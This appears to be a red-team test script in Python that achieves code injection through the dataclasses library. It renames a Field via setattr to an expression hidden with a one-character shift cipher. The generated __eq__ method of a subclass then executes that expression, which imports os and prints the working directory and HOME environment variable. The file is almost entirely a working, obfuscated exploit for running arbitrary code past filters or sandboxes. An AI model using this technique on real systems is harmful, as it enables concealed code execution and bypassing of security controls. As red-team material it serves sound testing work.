# family: red team, round 65b (asdict dict_factory key "name": setattr renames a Field nobody annotates as name; subclass pastes it into __eq__)
import dataclasses


@dataclasses.dataclass
class Base:
    x: int = 0


def pick(pairs):
    return {"name": 0}


def put(obj, value):
    for key in dataclasses.asdict(Base(), dict_factory=pick):
        setattr(obj, key, value)


def spell(text):
    return "".join([chr(ord(c) - 1) for c in text])


# "x if print(__import__('os'), __import__('os').getcwd(), __import__('os').environ['HOME']) else 0", shifted by one
payload = spell("y!jg!qsjou)``jnqpsu``)(pt(*-!``jnqpsu``)(pt(*/hfudxe)*-!``jnqpsu``)(pt(*/fowjspo\\(IPNF(^*!fmtf!1")
for f in dataclasses.fields(Base):
    put(f, payload)


@dataclasses.dataclass(init=False, repr=False)
class Child(Base):
    pass


print(Child() == Child())
